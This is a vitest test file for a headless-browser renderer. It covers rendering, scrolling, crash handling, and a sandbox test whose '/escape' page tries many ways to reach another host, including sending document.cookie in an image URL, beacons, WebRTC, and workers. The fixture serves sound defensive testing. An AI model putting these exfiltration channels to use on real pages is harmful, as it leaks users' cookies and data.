import { afterAll, beforeAll, describe, expect, test } from "vitest";
import type { Rendered } from "../../../src/fetch/rendered.ts";
import { openRenderer } from "../../../src/render/browser/browser-renderer.ts";
import { isRendered, type Renderer } from "../../../src/render/renderer.ts";
import { startSite, type TestSite } from "./site.ts";

let renderer: Renderer;
let site: TestSite;
/** Stands for everybody else: whom no page may reach. */
let elsewhere: TestSite;

beforeAll(async () => {
  elsewhere = await startSite(() => "<p>somebody else");
  site = await startSite((path) => sent(path));
  renderer = await openRenderer({ numbers: { hangMillis: 1_500 } });
});
afterAll(async () => {
  await renderer?.close();
  await site?.close();
  await elsewhere?.close();
});

async function rendered(path: string): Promise<Rendered> {
  const came = await renderer.render(await site.answer(path), { ask: site.ask });
  if (!isRendered(came)) throw new Error(came.message);
  return came;
}

describe("a page in the browser", () => {
  test("is what its program makes of it, with the answers that it asked for", async () => {
    const { html, ended, steps, answers } = await rendered("/shell");
    expect(html).toContain('<li><a href="/t/1">One &amp; all</a></li>');
    expect(html).not.toContain("<script");
    expect(ended).toBe("idle");
    expect(steps).toBe(0);
    expect(answers.map(({ answer, unprompted }) => [new URL(answer.url).pathname, unprompted])).toEqual([
      ["/threads.json", true],
    ]);
  });

  test("has its shadow trees, open and closed, in their place", async () => {
    const { html } = await rendered("/shadow");
    expect(html.replace(/\s+/g, " ")).toContain("<x-post><b>Ann</b> <p>slotted words</p></x-post>");
    expect(html).toContain("closed words");
  });

  test("that never comes to rest is taken as it is", async () => {
    const { html, ended } = await rendered("/restless");
    expect(ended).toBe("restless");
    expect(html).toContain("what people wrote");
    expect(site.heard.filter((line) => line.endsWith("/tick.json")).length).toBe(1);
  });

  test("goes on to the end of its list by scrolling, by clicking, and where it drops what has scrolled out", async () => {
    for (const path of ["/endless", "/more", "/virtual", "/recycled"]) {
      const { html, ended, steps } = await rendered(path);
      const numbers = [...html.matchAll(/post number (\d+)\b/g)].map(([, number]) => Number(number));
      expect(`${path} ${numbers.join()}`).toBe(`${path} ${Array.from({ length: 200 }, (_, i) => i).join()}`);
      expect(ended).toBe("idle");
      expect(steps).toBeGreaterThan(3);
    }
    expect(site.heard.filter((line) => !line.startsWith("GET ") || line.includes("delete"))).toEqual([]);
  }, 60_000);

  test("that hangs or crashes is ended, and the next one is shown", async () => {
    const came = await renderer.render(await site.answer("/crash"), { ask: site.ask });
    expect(isRendered(came) ? came.html : came.reason).toBe("browser");
    expect((await rendered("/shell")).html).toContain("One &amp; all");
  }, 60_000);

  test("reaches nobody but through our fetch, whatever it tries", async () => {
    const before = elsewhere.connections;
    const asked: string[] = [];
    const answer = await site.answer("/escape");
    const heard = site.heard.length;
    const came = await renderer.render(answer, {
      ask: (url, options) => {
        asked.push(url);
        return site.ask(url, options);
      },
    });
    if (!isRendered(came)) throw new Error(came.message);
    expect(came.html).toContain("tried everything");
    // What the server of the page heard is what we asked.
    const reached = site.heard.slice(heard).map((line) => line.replace("GET ", site.origin));
    expect(reached.sort()).toEqual(asked.toSorted());
    // A worker asks through us too.
    expect(asked.sort()).toEqual([`${site.origin}/frame-data.json`, `${site.origin}/worker.js`]);
    expect(elsewhere.heard).toEqual([]);
    expect(elsewhere.connections).toBe(before);
  }, 60_000);
});

const post = (number: number) =>
  `<article><p>post number ${number}</p><p>said at length by somebody</p></article>`;
const fill = (from: number, to: number) =>
  Array.from({ length: to - from }, (_, i) => post(from + i)).join("");

function sent(path: string) {
  const { pathname, searchParams } = new URL(path, site?.origin ?? "http://site.example");
  if (pathname === "/threads.json") return json([{ id: 1, title: "One & all" }]);
  if (pathname.endsWith(".json")) {
    const from = Number(searchParams.get("from") ?? 0);
    return json({ posts: Array.from({ length: Math.min(20, 200 - from) }, (_, i) => from + i) });
  }
  return PAGES[pathname]?.();
}

function json(what: unknown) {
  return { type: "application/json", body: JSON.stringify(what) };
}

const PAGES: Record<string, () => string> = {
  "/shell": () => `<!doctype html><title>Shell</title><ul id=list></ul><noscript>no program</noscript><script>
    fetch("/threads.json").then((r) => r.json()).then((all) => {
      for (const { id, title } of all) {
        const link = document.createElement("a");
        link.href = "/t/" + id; link.textContent = title;
        document.querySelector("#list").appendChild(document.createElement("li")).append(link);
      }
    });
  </script>`,
  "/shadow": () => `<body><x-post><p>slotted words</p></x-post><x-closed></x-closed><script>
    customElements.define("x-post", class extends HTMLElement {
      connectedCallback() { this.attachShadow({ mode: "open" }).innerHTML = "<b>Ann</b> <slot></slot>"; }
    });
    customElements.define("x-closed", class extends HTMLElement {
      connectedCallback() { this.attachShadow({ mode: "closed" }).innerHTML = "<i>closed words</i>"; }
    });
  </script>`,
  "/restless": () => `<body><p>what people wrote<p id=clock><script>
    let n = 0;
    setInterval(() => { clock.textContent = "tick " + n++; fetch("/tick.json"); }, 20);
  </script>`,
  "/endless": () => `<body><div id=list>${fill(0, 20)}</div><div id=end>·</div><script>
    let next = 20, busy = false;
    new IntersectionObserver(async ([{ isIntersecting }]) => {
      if (!isIntersecting || busy || next >= 200) return;
      busy = true;
      end.textContent = "loading";
      const { posts } = await (await fetch("/posts.json?from=" + next)).json();
      for (const n of posts) list.insertAdjacentHTML("beforeend", "<article style='height:300px'><p>post number " + n + "</p></article>");
      next += posts.length; end.textContent = "·"; busy = false;
    }, { rootMargin: "100px" }).observe(end);
  </script>`,
  "/more":
    () => `<body><div id=list>${fill(0, 20)}</div><a href="#" onclick="fetch('/post/7/delete')">Delete</a>
    <button onclick="fetch('/delete', { method: 'POST' })">Delete more</button><button id=more>Load 20 more posts</button><script>
    let next = 20;
    more.onclick = async () => {
      const { posts } = await (await fetch("/posts.json?from=" + next)).json();
      for (const n of posts) list.insertAdjacentHTML("beforeend", "<article><p>post number " + n + "</p></article>");
      next += posts.length;
      if (next >= 200) more.remove();
    };
  </script>`,
  // Keeps only what is seen, in elements of its own.
  "/virtual":
    () => `<body style="margin:0"><h1>A thread</h1><div id=list style="position:relative;height:${200 * 400}px"></div><script>
    const draw = () => {
      const first = Math.max(0, Math.floor(scrollY / 400) - 1), last = Math.min(200, first + Math.ceil(innerHeight / 400) + 2);
      for (const old of [...list.children]) if (+old.dataset.index < first || +old.dataset.index >= last) old.remove();
      for (let n = first; n < last; n++) {
        if (list.querySelector("[data-index='" + n + "']")) continue;
        const one = document.createElement("article");
        one.dataset.index = n;
        one.style = "position:absolute;height:400px;top:" + n * 400 + "px";
        one.innerHTML = "<p>post number " + n + "</p><p>said at length by somebody, who had much to say</p>";
        list.prepend(one);
      }
    };
    addEventListener("scroll", draw); draw();
  </script>`,
  // Writes over the same few elements, within a part of the page that scrolls by itself.
  "/recycled":
    () => `<body style="margin:0"><div id=view style="height:900px;overflow-y:auto"><div id=list style="position:relative;height:${200 * 120}px"></div></div><script>
    const rows = Array.from({ length: 12 }, () => {
      const row = list.appendChild(document.createElement("section"));
      row.innerHTML = "<b></b><p>said at length by somebody, who had much to say</p>";
      row.style = "position:absolute;height:120px";
      return row;
    });
    const draw = () => {
      const first = Math.max(0, Math.min(200 - rows.length, Math.floor(view.scrollTop / 120) - 1));
      for (let n = first; n < first + rows.length; n++) {
        const row = rows[n % rows.length];
        row.style.top = n * 120 + "px";
        if (row.firstChild.textContent !== "post number " + n) row.firstChild.textContent = "post number " + n;
      }
    };
    view.addEventListener("scroll", draw); draw();
  </script>`,
  "/crash": () => `<body><p>all is well<script>setTimeout(() => { for (;;) {} }, 20)</script>`,
  "/escape": () => {
    const other = elsewhere.origin.replace("127.0.0.1", "localhost");
    const host = new URL(other).host;
    return `<!doctype html><head>
    <link rel=dns-prefetch href="${other}"><link rel=preconnect href="${other}"><link rel=prefetch href="${other}/prefetch">
    <link rel=preload as=fetch href="${other}/preload"><link rel=icon href="${other}/icon"><link rel=manifest href="${other}/manifest">
    <script type=speculationrules>{"prerender":[{"source":"list","urls":["/prerendered"]}],"prefetch":[{"source":"list","urls":["/speculated"]}]}</script>
    <style>@font-face { font-family: f; src: url(${other}/font) } body { font-family: f; background: url(${other}/picture) }</style></head>
    <body>words in f<img src="${other}/img"><video src="${other}/video" autoplay></video><audio src="${other}/audio"></audio>
    <iframe src="${other}/frame"></iframe><object data="${other}/object"></object><embed src="${other}/embed">
    <iframe srcdoc="<script>fetch('${other}/from-srcdoc').catch(()=>{}); parent.fetch('/frame-data.json')</script>"></iframe>
    <a id=ping href="#x" ping="${other}/ping">p</a><a id=load download href="${other}/download">d</a>
    <form id=form method=post action="${other}/form" target=_blank><input name=a></form><form id=own method=post action="/form"></form><p id=done>
    <script>
    const attempts = [
      () => new WebSocket("ws://${host}/socket"),
      () => new EventSource("${other}/events"),
      () => navigator.sendBeacon("${other}/beacon", "x"),
      () => Navigator.prototype.sendBeacon.call(navigator, "${other}/beacon2", "x"),
      () => fetch("${other}/post", { method: "POST", mode: "no-cors", body: "x", keepalive: true }).catch(() => {}),
      () => fetch("/post", { method: "POST", body: "x" }).catch(() => {}),
      () => fetch("${other}/preflight", { headers: { "x-own": "1" } }).catch(() => {}),
      () => fetch("${other}/data").catch(() => {}),
      () => new Worker(URL.createObjectURL(new Blob(["fetch('${other}/worker').catch(()=>{});importScripts('${other}/imported')"]))),
      () => new Worker("/worker.js"),
      () => new SharedWorker("/shared.js"),
      () => navigator.serviceWorker.register("/service.js").catch(() => {}),
      () => { const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:${host}" }, { urls: "turn:${host}?transport=tcp", username: "a", credential: "b" }] }); p.createDataChannel("x"); p.createOffer().then((o) => p.setLocalDescription(o)); },
      () => window.open("${other}/popup"),
      () => ping.click(),
      () => load.click(),
      () => form.submit(),
      () => own.submit(),
      () => alert("hello"),
      () => Notification.requestPermission().catch(() => {}),
      () => navigator.geolocation.getCurrentPosition(() => {}, () => {}),
      () => { new Image().src = "${other}/image?" + document.cookie; },
      () => import("data:text/javascript,fetch('${other}/module').catch(()=>{})"),
      () => { location.href = "${other}/away"; },
    ];
    for (const attempt of attempts) try { attempt(); } catch {}
    done.textContent = "tried everything";
    addEventListener("beforeunload", () => navigator.sendBeacon("${other}/unload"));
    addEventListener("pagehide", () => fetch("${other}/hide", { keepalive: true, mode: "no-cors" }));
    </script>`;
  },
};
